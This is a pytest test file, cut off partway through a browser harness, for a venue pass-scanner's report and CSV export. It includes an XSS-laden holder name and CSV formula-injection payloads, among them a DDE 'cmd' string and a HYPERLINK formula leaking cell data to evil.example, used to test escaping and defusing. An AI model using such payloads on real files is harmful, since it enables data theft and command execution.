"""The manager's report and CSV, read from real merged SQLite files.

A small hand-made show (one event, five gates, no policy) checks the figures
a manager reads. The trial's show at the example venue (its signed policy:
dressing rooms and green room inside backstage, doors, walks) checks the
questions the report exists for, through the real CLI and in headless
Chromium: who was inside a zone at a time, people inside now, one pass's
path, copies that respect nested doors. A generated log checks the page at
scale; the generator also builds the 1M-row scale log:

    .venv/bin/python -m tests.test_report bench [GATES] [SCANS_PER_GATE]
"""

from __future__ import annotations

import csv
import html
import json
import random
import re
import sqlite3
import subprocess
import sys
import time
import uuid
from collections.abc import Iterable, Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from click.testing import CliRunner
from markupsafe import escape

from scanner.cli import cli
from scanner.core.keys import Ed25519PrivateKey
from scanner.core.policy import OUTSIDE, Policy
from scanner.core.venue_view import NO_ZONE, place_after
from scanner.errors import ConfigError, ScanLogError
from scanner.keyfiles import write_key_pair
from scanner.manager.report import (
    DENIAL_CLASSES,
    HEAT_COLOURS,
    ZONE_COLOURS,
    build_report,
    write_csv,
    write_report,
)
from scanner.record.schema import SCAN_COLUMNS
from scanner.record.spreadsheet import FORMULA_STARTS, defuse

from .test_access_table import ZONES

EVENT = "tour-2026-12-05"
NOW = datetime(2026, 12, 5, 23, 0, tzinfo=UTC)
CHROMIUM = Path("/usr/bin/chromium")

# -- building merged logs ------------------------------------------------------


def create_merged_db(path: Path, *, with_gates: bool = False) -> sqlite3.Connection:
    """An empty database with the merged schema (as ``scanner logs merge`` makes it)."""
    types = {str: "TEXT", int: "INTEGER"}
    cols = ", ".join(
        f"{name} {types[kind]}" + (" PRIMARY KEY" if name == "id" else "")
        for name, kind in SCAN_COLUMNS.items()
    )
    conn = sqlite3.connect(path)
    conn.execute(f"CREATE TABLE scans ({cols})")
    if with_gates:
        conn.execute(
            "CREATE TABLE gates (gate TEXT PRIMARY KEY, device_key_id TEXT, "
            "rows INTEGER, last_export_at TEXT)"
        )
        conn.execute(
            "CREATE TABLE exports (gate TEXT, event TEXT, exported_at TEXT, "
            "rows INTEGER, first_ts TEXT, last_ts TEXT, head_hash TEXT, "
            "folder TEXT, merged_at TEXT)"
        )
    return conn


def index_merged_db(conn: sqlite3.Connection) -> None:
    for col in ("ts", "serial", "gate"):
        conn.execute(f"CREATE INDEX IF NOT EXISTS scans_{col} ON scans ({col})")
    conn.commit()


def insert_scans(conn: sqlite3.Connection, rows: Iterable[Sequence[Any]]) -> None:
    marks = ", ".join("?" for _ in SCAN_COLUMNS)
    conn.executemany(f"INSERT INTO scans ({', '.join(SCAN_COLUMNS)}) VALUES ({marks})", rows)


def row(
    ts: str,
    gate: str,
    zone: str | None,
    direction: str | None,
    door: str | None,
    serial: Any,
    holder: str | None,
    tier: str | None,
    reason: str = "ok",
    *,
    event: str | None = EVENT,
    clock: str = "trusted",
) -> dict[str, Any]:
    """One scan as a gate logs it."""
    decision = "granted" if reason == "ok" else "denied"
    return {
        "id": str(uuid.uuid4()),
        "ts": ts,
        "gate": gate,
        "zone": zone,
        "direction": direction,
        "door": door,
        "event": event,
        "serial": serial,
        "tier": tier,
        "holder": holder,
        "decision": decision,
        "reason": reason,
        "key_id": "k1" if serial is not None else None,
        "clock": clock,
        "phase": "during",
        "message": f"{decision.capitalize()}: {holder or 'no pass'}.",
        "code_sha256": "c" * 64,
        "prev_hash": "0" * 64,
        "hash": "f" * 64,
    }


GATES = {  # gate: (zone, direction)
    "stage-door-in": ("backstage", "entry"),
    "stage-door-out": ("backstage", "exit"),
    "green-in": ("green-room", "entry"),
    "green-out": ("green-room", "exit"),
    "dock-in": ("loading-dock", "entry"),
}


def scan(
    at: str,
    gate: str,
    serial: int | None,
    holder: str | None,
    tier: str | None,
    reason: str = "ok",
    *,
    event: str | None = EVENT,
    clock: str = "trusted",
    direction: str | None = None,
) -> dict[str, Any]:
    """A scan of the hand-made show, at a UTC time of day."""
    zone, gate_direction = GATES[gate]
    return row(
        f"2026-12-05T{at}Z",
        gate,
        zone,
        direction or gate_direction,
        None,
        serial,
        holder,
        tier,
        reason,
        event=event,
        clock=clock,
    )


BOB = "Bob <script>alert('x')</script></script><!--"

SHOW = [
    # Alice goes in and out: not inside.
    scan("19:00:00", "stage-door-in", 1, "Alice Able", "aaa"),
    scan("19:30:00", "stage-door-out", 1, "Alice Able", "aaa"),
    # Bob (a hostile name) goes in: inside backstage.
    scan("19:05:00", "stage-door-in", 2, BOB, "vip"),
    # Carol's pass at two doors 30 s apart: a suspected copy.
    scan("19:10:00", "stage-door-in", 3, "Carol Copy", "working"),
    scan("19:10:30", "green-in", 3, "Carol Copy", "working"),
    # Serial 3 of another event between them: a different pass, not a copy.
    scan("19:10:10", "dock-in", 3, "Stranger", "aaa", "wrong_event", event=None),
    # Dan walks between the same doors in 10 minutes: not a copy.
    scan("20:00:00", "stage-door-in", 4, "Dan Distant", "aaa"),
    scan("20:10:00", "green-in", 4, "Dan Distant", "aaa"),
    # Refusals.
    scan("20:15:00", "dock-in", 5, "Eve Revoked", "local-crew", "revoked"),
    scan("20:20:00", "green-in", None, None, None, "bad_signature", event=None),
    scan("20:21:00", "dock-in", None, None, None, "unknown_key", event=None),
    scan("20:22:00", "stage-door-in", None, None, None, "malformed", event=None),
    scan("20:30:00", "green-in", 6, "Frank Photo", "photo", "zone_not_allowed"),
    scan("20:40:00", "stage-door-in", 7, "Gus Gone", "after-show", "expired"),
    scan("20:41:00", "stage-door-in", 7, "Gus Gone", "after-show", "expired"),
]


def write_show(path: Path, rows: Sequence[dict[str, Any]] = SHOW, **kw: Any) -> Path:
    conn = create_merged_db(path, **kw)
    seqs: dict[str, int] = {}
    ordered = []
    for r in sorted(rows, key=lambda r: (r["gate"], r["ts"])):
        seqs[r["gate"]] = seqs.get(r["gate"], 0) + 1
        ordered.append([{**r, "seq": seqs[r["gate"]]}[c] for c in SCAN_COLUMNS])
    insert_scans(conn, ordered)
    index_merged_db(conn)
    conn.close()
    return path


@pytest.fixture
def show_db(tmp_path: Path) -> Path:
    return write_show(tmp_path / "all.db")


@pytest.fixture
def page(show_db: Path) -> str:
    return build_report(show_db, now=NOW)


def section(page: str, name: str) -> str:
    return page.split(f'<section id="{name}">', 1)[1].split("</section>", 1)[0]


def tile(page: str, label: str) -> int:
    found = re.search(rf'<span class="v">([\d,]+)</span><span class="l">{label}</span>', page)
    assert found, f"no {label!r} figure in the header"
    return int(found.group(1).replace(",", ""))


def page_data(page: str) -> dict[str, Any]:
    block = page.split('<script type="application/json" id="report-data">', 1)[1]
    return json.loads(block.split("</script>", 1)[0])


def table_rows(page: str) -> list[list[Any]]:
    """The filterable table's rows: time, gate, door, zone, direction, serial,
    holder, tier, decision, reason, message, suspected copy, clock."""
    return page_data(page)["table"]["rows"]


def copies_in(page: str) -> set[str]:
    """Holders in the suspected copies section."""
    found = re.findall(r'<tr><td class="num">[^<]*</td><td>(.*?)</td>', section(page, "copies"))
    return {html.unescape(re.sub(r"<[^>]+>", "", cell)) for cell in found}


# -- the figures -----------------------------------------------------------------


def test_the_header_gives_the_event_and_totals(page: str) -> None:
    assert EVENT in page.split("</header>")[0]
    assert tile(page, "scans") == 15
    assert tile(page, "granted") == 7
    assert tile(page, "denied") == 8
    assert tile(page, "gates") == 4  # green-out saw nobody
    assert "2026-12-05 19:00:00" in page and "2026-12-05 20:41:00" in page
    assert 'times in <b id="tz">UTC</b>.' in page  # no policy, no --tz: UTC, and it says so


def test_denials_are_counted_by_reason_in_plain_words(page: str) -> None:
    denials = section(page, "denials")
    for label, code, count in [
        ("pass expired", "expired", 2),
        ("forged or altered", "bad_signature", 1),
        ("revoked (lost or cancelled pass)", "revoked", 1),
        ("signed by an unknown key (forged)", "unknown_key", 1),
        ("not a pass (unreadable or malformed code)", "malformed", 1),
        ("not allowed in this zone", "zone_not_allowed", 1),
        ("pass for another event", "wrong_event", 1),
    ]:
        assert (
            f'<td>{escape(label)}</td><td><code>{code}</code></td><td class="num">{count}</td>'
        ) in denials, label
    assert "<svg" in denials
    assert "granted" not in denials.split("<table")[1]


def test_two_gates_thirty_seconds_apart_are_a_suspected_copy(page: str) -> None:
    copies = section(page, "copies")
    assert copies_in(page) == {"Carol Copy"}
    assert "stage-door-in" in copies and "green-in" in copies
    assert "30 s" in copies
    assert tile(page, "suspected copies") == 1


def test_ten_minutes_between_doors_or_another_event_is_not_a_copy(page: str) -> None:
    copies = section(page, "copies")
    assert "Dan Distant" not in copies
    assert "Stranger" not in copies
    assert "<b>1 pass</b>, 1 pair of scans" in copies


def test_a_longer_walking_time_catches_slower_copies(show_db: Path) -> None:
    page = build_report(show_db, walk_seconds=15 * 60, now=NOW)
    assert copies_in(page) == {"Carol Copy", "Dan Distant"}
    assert "10 min" in section(page, "copies")
    off = section(build_report(show_db, walk_seconds=0, now=NOW), "copies")
    assert "turned off" in off and "Carol" not in off


def test_without_a_policy_people_inside_are_counted_once_where_they_last_went(
    page: str,
) -> None:
    inside = section(page, "inside")
    zones = dict(re.findall(r"<summary>\s*<b>([^<]+)</b>: (\d+) (?:person|people) inside", inside))
    # Carol and Dan went on from backstage into the green room: they are
    # there, not in both; Alice left; Bob stayed backstage.
    assert zones == {"backstage": "1", "green-room": "2"}
    backstage = inside.split("<b>backstage</b>")[1].split("</details>")[0]
    assert str(escape(BOB)) in backstage and "Alice Able" not in backstage
    assert "2026-12-05 19:05:00" in backstage  # Bob inside since
    green = inside.split("<b>green-room</b>")[1].split("</details>")[0]
    assert "Carol Copy" in green and "Dan Distant" in green
    # Denied passes never count as inside.
    assert "Gus Gone" not in inside and "Eve Revoked" not in inside
    assert tile(page, "people inside now") == 3
    assert "Without <code>--policy</code> no zone is known to sit inside another" in inside


def test_scans_on_an_untrusted_clock_still_place_people_and_say_so(tmp_path: Path) -> None:
    rows = [{**r, "clock": "untrusted"} for r in SHOW]
    page = build_report(write_show(tmp_path / "all.db", rows=rows), now=NOW)
    assert tile(page, "people inside now") == 3
    assert "15 scans were made while a gate could not trust its clock" in page


def test_revoked_and_forged_attempts_are_listed(page: str) -> None:
    attempts = section(page, "attempts")
    rows = attempts.split("<tbody>")[1].split("<tr>")[1:]
    assert len(rows) == 4
    assert "Eve Revoked" in attempts and "revoked (lost or cancelled pass)" in attempts
    assert "forged or altered" in attempts and "signed by an unknown key" in attempts
    assert "<b>3 forged or unreadable codes</b>, <b>1 revoked pass</b>." in attempts
    assert "not a pass" in attempts
    assert "Frank Photo" not in attempts  # a genuine pass in the wrong zone
    assert tile(page, "forged or revoked") == 4


def test_holder_names_are_escaped_never_live_markup(page: str) -> None:
    assert "<script>alert" not in page
    assert "<!--" not in page
    assert str(escape(BOB)) in section(page, "inside")
    # Only the page's own two script elements exist, and the data survives intact.
    assert page.count("<script") == 2
    assert page.count("</script>") == 2
    assert BOB in {r[6] for r in table_rows(page)}
    assert BOB in {p[2] for p in page_data(page)["moves"]["people"]}


def test_the_page_needs_no_network_and_may_load_nothing(page: str) -> None:
    links = re.findall(r"""\b(?:src|href)\s*=\s*["']?([^"'\s>]*)""", page)
    assert links and all(link.startswith("#") for link in links)
    assert not re.search(r"https?:|//[a-z]|@import|url\(", page)
    # The browser enforces it: nothing may load, only the page's own script runs.
    csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', page)
    assert csp
    policy = html.unescape(csp.group(1))
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
    assert directives["default-src"] == "'none'"
    assert re.fullmatch(r"'sha256-[A-Za-z0-9+/=]{44}'", directives["script-src"])


def test_the_table_holds_every_scan_of_a_small_log(page: str) -> None:
    rows = table_rows(page)
    assert len(rows) == 15
    assert rows[0][0] == "2026-12-05 20:41:00"  # most recent first
    assert "All 15 scans" in section(page, "all")
    flagged = {(r[1], r[6]) for r in rows if r[11]}
    assert flagged == {("stage-door-in", "Carol Copy"), ("green-in", "Carol Copy")}


def test_a_large_log_inlines_recent_scans_and_denials_and_says_so(show_db: Path) -> None:
    page = build_report(show_db, now=NOW, table_rows=3, table_denials=4)
    # The 3 most recent (all denials) and the 4 denials before them; 8 denials in all.
    assert [r[0][11:] for r in table_rows(page)] == [
        "20:41:00",
        "20:40:00",
        "20:30:00",
        "20:22:00",
        "20:21:00",
        "20:20:00",
        "20:15:00",
    ]
    assert "3 most recent scans and 4 earlier denials: 7 of 15 scans" in page
    assert "--csv" in section(page, "all")


def test_times_can_be_shown_in_another_time_zone(show_db: Path) -> None:
    page = build_report(show_db, now=NOW, tz="Europe/Berlin")
    assert 'times in <b id="tz">Europe/Berlin</b>.' in page
    assert "2026-12-05 20:00:00" in page  # Alice's 19:00 UTC entry
    assert "21:41:00" in page and "20:41:00" not in page
    with pytest.raises(ConfigError, match="Mars/Olympus"):
        build_report(show_db, tz="Mars/Olympus")


def test_gates_and_exports_add_the_last_export(tmp_path: Path) -> None:
    db = write_show(tmp_path / "all.db", with_gates=True)
    conn = sqlite3.connect(db)
    conn.execute("INSERT INTO gates VALUES ('dock-in', 'dk1', 3, '2026-12-05T21:00:00Z')")
    conn.execute("INSERT INTO gates VALUES ('green-out', 'dk2', 0, '2026-12-05T21:05:00Z')")
    conn.execute("INSERT INTO exports (gate, event) VALUES ('dock-in', ?)", [EVENT])
    conn.commit()
    conn.close()
    gates = section(build_report(db, now=NOW), "gates")
    dock = gates.split("<td>dock-in</td>")[1].split("</tr>")[0]
    assert "2026-12-05 21:00:00" in dock
    assert "Merged from 1 export." in gates
    quiet = gates.split("<td>green-out</td>")[1].split("</tr>")[0]
    assert '<td class="num">0</td>' in quiet and "2026-12-05 21:05:00" in quiet


def test_an_empty_log_says_so(tmp_path: Path) -> None:
    db = write_show(tmp_path / "empty.db", rows=[])
    page = build_report(db, now=NOW)
    assert "No scans in this database" in page
    assert tile(page, "scans") == 0
    assert "Nobody is inside" in section(page, "inside")


def test_a_file_that_is_not_a_scan_log_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ScanLogError, match="no scan log"):
        build_report(tmp_path / "missing.db")
    junk = tmp_path / "junk.db"
    junk.write_text("not a database at all, just text " * 100)
    with pytest.raises(ScanLogError, match="cannot read"):
        build_report(junk)
    other = tmp_path / "other.db"
    sqlite3.connect(other).execute("CREATE TABLE t (x)").connection.close()
    with pytest.raises(ScanLogError, match="no scans table"):
        build_report(other)
    with pytest.raises(ScanLogError):
        write_csv(other, tmp_path / "out.csv")
    assert not (tmp_path / "out.csv").exists()


def test_write_report_writes_the_page(show_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.html"
    write_report(show_db, out, now=NOW)
    assert out.read_text(encoding="utf-8") == build_report(show_db, now=NOW)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["all.db", "report.html"]


def test_the_page_ships_with_the_package() -> None:
    import importlib.resources

    templates = importlib.resources.files("scanner.manager") / "templates"
    assert {"report.html", "charts.html", "report.css", "report.js"} <= {
        p.name for p in templates.iterdir()
    }


# -- the trial's show at the example venue ----------------------------------------
#
# The example policy's venue: the dressing rooms and the green room sit inside
# backstage; artist-entrance leads from outside into backstage, dressing-rooms
# and green-room from backstage inward, pit-gate from outside into the photo
# pit. Walks: artist-entrance <-> dressing-rooms 20 s, artist-entrance <->
# pit-gate 240 s, any other two doors 60 s. Times below are the event's
# (Europe/Berlin, UTC+1 in December).

BERLIN = ZoneInfo("Europe/Berlin")
FEST = "example-fest-2026"
VENUE_GATES = {  # gate: (zone, direction, door); entry and exit boxes share doorways
    "artist-in": ("backstage", "entry", "artist-entrance"),
    "artist-out": ("backstage", "exit", "artist-entrance"),
    "dressing-in": ("dressing-rooms", "entry", "dressing-rooms"),
    "dressing-out": ("dressing-rooms", "exit", "dressing-rooms"),
    "green-in": ("green-room", "entry", "green-room"),
    "green-out": ("green-room", "exit", "green-room"),
    "pit-in": ("photo-pit", "entry", "pit-gate"),
}


def visit(
    local: str, gate: str, serial: int, holder: str, tier: str, reason: str = "ok"
) -> dict[str, Any]:
    """A scan at the example venue, at a time of day in the event's zone."""
    at = datetime.fromisoformat(f"2026-12-05T{local}").replace(tzinfo=BERLIN).astimezone(UTC)
    zone, direction, door = VENUE_GATES[gate]
    ts = at.strftime("%Y-%m-%dT%H:%M:%SZ")
    return row(ts, gate, zone, direction, door, serial, holder, tier, reason, event=FEST)


TRIAL = [
    # Ann goes to the dressing rooms (a minute's walk; the policy says 20 s),
    # and leaves the venue at 22:30.
    visit("21:30:00", "artist-in", 101, "Ann Artist", "aaa"),
    visit("21:31:00", "dressing-in", 101, "Ann Artist", "aaa"),
    visit("22:30:00", "dressing-out", 101, "Ann Artist", "aaa"),
    visit("22:30:30", "artist-out", 101, "Ann Artist", "aaa"),
    # Eli goes to the dressing rooms 40 s after coming in, and stays.
    visit("21:40:00", "artist-in", 102, "Eli Encore", "aaa"),
    visit("21:40:40", "dressing-in", 102, "Eli Encore", "aaa"),
    # Ben is refused at the next door inward 45 s after coming in: no copy.
    visit("21:50:00", "artist-in", 103, "Ben Guest", "vip"),
    visit("21:50:45", "dressing-in", 103, "Ben Guest", "vip", "zone_not_allowed"),
    # Cleo goes into the green room and out again 8 s later through the same
    # doorway's exit box, and back in at 22:05.
    visit("21:45:00", "artist-in", 104, "Cleo Crew", "working"),
    visit("21:55:00", "green-in", 104, "Cleo Crew", "working"),
    visit("21:55:08", "green-out", 104, "Cleo Crew", "working"),
    visit("22:05:00", "green-in", 104, "Cleo Crew", "working"),
    # Dora's pass at the artists' entrance and the photo pit gate, round the
    # building, 40 s apart: a copy.
    visit("21:58:00", "artist-in", 105, "Dora Double", "aaa"),
    visit("21:58:40", "pit-in", 105, "Dora Double", "aaa"),
    # Finn comes late.
    visit("22:10:00", "artist-in", 106, "Finn Late", "aaa"),
    # Bob (a hostile name) goes to the green room.
    visit("21:20:00", "artist-in", 107, BOB, "vip"),
    visit("21:21:30", "green-in", 107, BOB, "vip"),
]
PEOPLE_NOW = {"Eli Encore", "Ben Guest", "Cleo Crew", "Dora Double", "Finn Late", BOB}


@pytest.fixture(scope="module")
def venue(
    tmp_path_factory: pytest.TempPathFactory,
    signed_policy_bytes: bytes,
    organizer_key: Ed25519PrivateKey,
) -> Path:
    """A folder with the trial's merged log, the signed example policy and the
    organizer's public key, as the manager has them."""
    tmp = tmp_path_factory.mktemp("venue")
    write_show(tmp / "all.db", rows=TRIAL)
    (tmp / "event.policy").write_bytes(signed_policy_bytes)
    write_key_pair(tmp / "keys", "organizer", key=organizer_key)
    return tmp


def report_cli(*args: str | Path) -> Any:
    return CliRunner().invoke(cli, ["logs", "report", *map(str, args)])


@pytest.fixture(scope="module")
def venue_report(venue: Path) -> Path:
    """The report, made with the commands a manager types."""
    result = report_cli(
        venue / "all.db",
        "-o",
        venue / "report.html",
        "--csv",
        venue / "scans.csv",
        "--policy",
        venue / "event.policy",
        "--trust",
        venue / "keys" / "organizer.pub",
    )
    assert result.exit_code == 0, result.output
    assert "report: " in result.output and "csv: 17 scans" in result.output
    return venue / "report.html"


@pytest.fixture(scope="module")
def venue_page(venue_report: Path) -> str:
    return venue_report.read_text(encoding="utf-8")


def test_nested_doors_and_one_doorways_boxes_are_no_copy_but_far_doors_are(
    venue_page: str,
) -> None:
    # In 1 minute to the dressing rooms, 45 s to a refusal at the next door
    # inward, 8 s between a doorway's entry and exit boxes: all can be walked.
    # The artists' entrance and the photo pit gate 40 s apart cannot.
    assert copies_in(venue_page) == {"Dora Double"}
    copies = section(venue_page, "copies")
    assert "artist-entrance" in copies and "pit-gate" in copies
    assert "40 s" in copies and "4 min" in copies  # the gap, and the walk it beats
    assert tile(venue_page, "suspected copies") == 1
    assert {r[6] for r in table_rows(venue_page) if r[11]} == {"Dora Double"}


def test_without_the_venue_every_nearby_door_looks_like_a_copy(venue: Path) -> None:
    # What the trial saw: a flat two minutes between every two gates flags
    # passes that only walked inward. (A doorway's two boxes stay one place:
    # their rows name the same door.)
    page = build_report(venue / "all.db", now=NOW)
    assert copies_in(page) == {"Ann Artist", "Eli Encore", "Ben Guest", "Dora Double", BOB}


def test_the_policys_doors_place_gates_whose_rows_have_none(tmp_path: Path, policy: Policy) -> None:
    # Gates that did not record their door: each zone here has one door in,
    # so the policy still knows where every box stands.
    rows = [{**r, "door": None} for r in TRIAL]
    page = build_report(write_show(tmp_path / "all.db", rows=rows), policy=policy, now=NOW)
    assert copies_in(page) == {"Dora Double"}


def test_a_longer_default_walk_with_a_policy_keeps_the_policys_own_walks(
    venue: Path, policy: Policy
) -> None:
    # Five minutes between doors the policy names no walk for: the green room
    # 90 s after the artists' entrance is now too fast; the dressing rooms
    # (20 s, named) are not.
    page = build_report(venue / "all.db", policy=policy, walk_seconds=300, now=NOW)
    assert copies_in(page) == {"Dora Double", BOB}


def test_people_inside_now_are_people_not_sums_of_zones(venue_page: str) -> None:
    inside = section(venue_page, "inside")
    assert tile(venue_page, "people inside now") == len(PEOPLE_NOW) == 6
    zones = dict(re.findall(r"<summary>\s*<b>([^<]+)</b>: (\d+) (?:person|people) inside", inside))
    # Eli is in the dressing rooms and so backstage too; the zones add up to 9.
    assert zones == {"backstage": "5", "dressing-rooms": "1", "green-room": "2", "photo-pit": "1"}
    assert "add up to 9, not 6" in inside
    backstage = inside.split("<b>backstage</b>")[1].split("</details>")[0]
    for name in ("Eli Encore", "Ben Guest", "Cleo Crew", "Finn Late"):
        assert name in backstage
    assert "Ann Artist" not in inside  # left at 22:30:30
    assert "Dora Double" not in backstage  # the photo pit is not backstage


def test_a_pass_let_in_at_a_gate_that_logged_no_zone_is_still_inside(
    tmp_path: Path, policy: Policy
) -> None:
    # A box that logged no zone (an old gate, a hand-made log): Ann let in
    # there after the artists' entrance is inside, somewhere, never outside;
    # Ben let out there leaves. The gates' rule (the core's) says the same.
    def nowhere(r: dict[str, Any], gate: str) -> dict[str, Any]:
        return {**r, "gate": gate, "zone": None, "door": None}

    rows = [
        visit("21:30:00", "artist-in", 101, "Ann Artist", "aaa"),
        nowhere(visit("21:40:00", "artist-in", 101, "Ann Artist", "aaa"), "side-in"),
        visit("21:30:00", "artist-in", 103, "Ben Guest", "vip"),
        nowhere(visit("21:45:00", "artist-out", 103, "Ben Guest", "vip"), "side-out"),
    ]
    page = build_report(write_show(tmp_path / "all.db", rows=rows), policy=policy, now=NOW)
    assert tile(page, "people inside now") == 1
    inside = section(page, "inside")
    zones = dict(re.findall(r"<summary>\s*<b>([^<]+)</b>: (\d+) (?:person|people) inside", inside))
    assert zones == {NO_ZONE: "1"}
    assert "Ann Artist" in inside and "Ben Guest" not in inside
    venue, roster = policy.places, policy.gates
    assert place_after(venue, roster, "side-in", None, "entry", None) == NO_ZONE
    assert place_after(venue, roster, "side-out", None, "exit", None) == OUTSIDE


def test_times_are_in_the_events_time_zone_by_default(venue_page: str, venue: Path) -> None:
    assert 'times in <b id="tz">Europe/Berlin</b> (the event\'s time zone)' in venue_page
    assert "2026-12-05 21:20:00" in venue_page  # Bob's entry, 20:20 UTC
    assert "2026-12-05 20:20:00" not in venue_page
    result = report_cli(
        venue / "all.db",
        "-o",
        venue / "utc.html",
        "--policy",
        venue / "event.policy",
        "--tz",
        "UTC",
    )
    assert result.exit_code == 0, result.output
    utc = (venue / "utc.html").read_text(encoding="utf-8")
    assert 'times in <b id="tz">UTC</b>.' in utc and "2026-12-05 20:20:00" in utc


def test_the_csv_flags_copies_by_the_policys_walks(venue_report: Path) -> None:
    with (venue_report.parent / "scans.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert len(rows) == len(TRIAL)
    flagged = {(r["gate"], r["holder"]) for r in rows if r["suspected_copy"] == "true"}
    assert flagged == {("artist-in", "Dora Double"), ("pit-in", "Dora Double")}


def test_a_policy_for_another_event_is_refused_and_nothing_is_written(
    tmp_path: Path, signed_policy_bytes: bytes
) -> None:
    db = write_show(tmp_path / "all.db")  # the tour, not the fest
    (tmp_path / "fest.policy").write_bytes(signed_policy_bytes)
    result = report_cli(db, "-o", tmp_path / "r.html", "--policy", tmp_path / "fest.policy")
    assert result.exit_code == 2
    assert "Error: the policy is for event 'example-fest-2026'" in result.output
    assert "Traceback" not in result.output
    assert not (tmp_path / "r.html").exists()


def test_a_policy_signed_by_someone_else_or_altered_is_refused(
    venue: Path, tmp_path: Path, other_key: Ed25519PrivateKey
) -> None:
    write_key_pair(tmp_path / "keys", "stranger", key=other_key)
    out = tmp_path / "r.html"
    policy = venue / "event.policy"
    result = report_cli(
        venue / "all.db", "-o", out, "--policy", policy, "--trust", tmp_path / "keys/stranger.pub"
    )
    assert result.exit_code == 2 and "Error: policy refused" in result.output
    altered = tmp_path / "altered.policy"
    altered.write_bytes(policy.read_bytes().replace(b"artist-entrance", b"artist-entrancf", 1))
    result = report_cli(venue / "all.db", "-o", out, "--policy", altered)
    assert result.exit_code == 2 and "Error: policy refused" in result.output
    result = report_cli(venue / "all.db", "-o", out, "--trust", tmp_path / "keys/stranger.pub")
    assert result.exit_code == 2 and "give --policy" in result.output
    assert not out.exists()


def test_a_log_whose_scans_are_a_view_is_refused(tmp_path: Path) -> None:
    # A file from somewhere else: its "scans" could show anything it likes.
    db = tmp_path / "all.db"
    conn = sqlite3.connect(db)
    conn.execute("CREATE TABLE real (x)")
    conn.execute("CREATE VIEW scans AS SELECT * FROM real")
    conn.commit()
    conn.close()
    result = report_cli(db, "-o", tmp_path / "r.html", "--csv", tmp_path / "s.csv")
    assert result.exit_code == 2 and "no scans table" in result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["all.db"]


# -- CSV ---------------------------------------------------------------------------


def test_the_csv_has_every_scan_in_time_order_with_copy_flags(
    show_db: Path, tmp_path: Path
) -> None:
    out = tmp_path / "scans.csv"
    assert write_csv(show_db, out) == 15
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert list(rows[0]) == [*SCAN_COLUMNS, "suspected_copy"]
    assert len(rows) == 15
    assert [r["ts"] for r in rows] == sorted(r["ts"] for r in rows)
    flagged = {(r["gate"], r["holder"]) for r in rows if r["suspected_copy"] == "true"}
    assert flagged == {("stage-door-in", "Carol Copy"), ("green-in", "Carol Copy")}
    assert {r["suspected_copy"] for r in rows} == {"true", "false"}
    assert BOB in {r["holder"] for r in rows}


def test_the_csv_uses_the_same_walking_time(show_db: Path, tmp_path: Path) -> None:
    out = tmp_path / "scans.csv"
    write_csv(show_db, out, walk_seconds=15 * 60)
    with out.open(newline="", encoding="utf-8") as f:
        flagged = {r["holder"] for r in csv.DictReader(f) if r["suspected_copy"] == "true"}
    assert flagged == {"Carol Copy", "Dan Distant"}


HOSTILE = {  # a formula in every text column a gate or a merged file could carry
    "gate": "@SUM(1+1)*cmd|' /C calc'!A0",
    "zone": "-2+3",
    "direction": "=1",
    "door": "|calc",
    "event": "%0A=1",
    "serial": "=1+1",  # a merged file is plain SQLite: text can sit in an INTEGER column
    "tier": "+x",
    "holder": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "reason": "\t=1",
    "key_id": "\r=1",
    "clock": "=NOW()",
    "phase": "-cmd",
    "message": "@import",
    "code_sha256": "=cc",
    "prev_hash": "+00",
    "hash": "-ff",
    "id": "=id",
    "ts": "=2026",
}


def test_no_csv_cell_hands_a_spreadsheet_a_formula(tmp_path: Path) -> None:
    # The attack: a name typed at the pass desk, or a crafted log merged from
    # a stick, waits in the CSV for the manager to open it in a spreadsheet.
    hostile = {**row("2026-12-05T19:00:00Z", "g", "z", "entry", None, 9, "x", "aaa"), **HOSTILE}
    honest = scan("19:00:05", "dock-in", 10, "-Minus Person", "aaa")
    db = write_show(tmp_path / "all.db", rows=[hostile, honest])
    before = db.read_bytes()
    result = report_cli(db, "--csv", tmp_path / "scans.csv", "-o", tmp_path / "r.html")
    assert result.exit_code == 0, result.output
    with (tmp_path / "scans.csv").open(newline="", encoding="utf-8") as f:
        header, *rows = list(csv.reader(f))
    assert len(rows) == 2
    for cells in rows:
        for name, cell in zip(header, cells, strict=True):
            assert not cell.startswith(FORMULA_STARTS), (name, cell)
    evil = next(dict(zip(header, r, strict=True)) for r in rows if r[header.index("id")] == "'=id")
    for name, value in HOSTILE.items():
        assert evil[name] == defuse(value) == "'" + value, name
    assert "'-Minus Person" in rows[1] or "'-Minus Person" in rows[0]
    assert db.read_bytes() == before  # the report only reads


# -- in a browser ------------------------------------------------------------------


def chromium(*args: str, tmp: Path, timeout: float = 90) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [
            str(CHROMIUM),
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--enable-logging=stderr",
            "--v=0",
            f"--user-data-dir={tmp / 'chromium-profile'}",
            *args,
        ],
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
    )


needs_chromium = pytest.mark.skipif(
    not CHROMIUM.exists(), reason="needs Debian's chromium (scripts/bootstrap test installs it)"
)

# Opens each report in a 1280 px wide frame, as a manager's laptop shows it,
# and reads back what the page's own script drew and how the browser laid it
# out. The report itself is never changed: its CSP would refuse any script
# added to it.
HARNESS = """<!DOCTYPE html><html><head><meta charset="utf-8"></head><body>
<pre id="out">pending</pre><script>
var targets = %s;
var results = [];
function texts(doc, id) {
  var table = doc.getElementById(id);
  return Array.from(table.tBodies[0].rows).map(function (r) {
    var cells = Array.from(r.cells).map(function (c) { return c.textContent; });
    return {cls: r.className, cells: cells};
  });
}
function wrapped(doc, selector) {
  var out = [];
  doc.querySelectorAll(selector).forEach(function (cell) {
    var range = doc.createRange();
    range.selectNodeContents(cell);
    var tops = {};
    Array.from(range.getClientRects()).forEach(function (r) { tops[Math.round(r.top)] = 1; });
    if (Object.keys(tops).length > 1) { out.push(cell.textContent); }
